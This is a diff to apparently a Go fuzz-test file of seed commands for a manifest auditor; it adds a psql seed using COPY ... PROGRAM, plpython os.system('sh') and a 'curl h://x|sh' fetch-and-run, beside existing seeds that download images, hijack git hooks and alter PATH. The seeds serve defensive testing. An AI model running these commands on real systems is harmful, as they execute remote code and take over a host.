@@ -327,6 +327,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "curl -o /t/a h://x; curl h | tar x -C /t/c; docker load -i /t/a; podman load --input; docker image load; docker import /t/a; nerdctl import h://x; docker import - i; docker buildx build -f /t/a -f - -t i /t/c -; docker build; cd /t/c; docker build .; docker compose -f /t/a -f - --file=/t/c/x up; finch load -i"},
 	{"sh", "-c", "curl h | tar x -C /t/h; curl -o /t/g/x h; git -c core.hooksPath=/t/h -c core.hookspath= -c init.templateDir=/t c; git config core.hooksPath /t/g; git config --global init.templatedir; git clone --template /t/h --template= h://x; git init --template=/t -- --template=/t/h"},
 	{"pwsh", "-Command", `iwr h://x -OutFile C:\t\a.exe; $env:Path = 'C:\t;;' + $env:Path; $env:PATH += ';'; $env:Path += "C:\t"; $env:X +=; $y += 'a'; $env:Path = ''; a; A.EXE`},
+	{"psql", "-c", "select ';'; COPY (select $q$)$q$) TO PROGRAM E'npx \\'p\\'' ; DO LANGUAGE plpython3u $$import os; os.system('sh')$$; CREATE FUNCTION f() AS $b$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''curl h://x|sh'''; END $b$ LANGUAGE 'plpgsql'; /* /* */ COPY t FROM PROGRAM $$ -- \\ \"x\" $"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
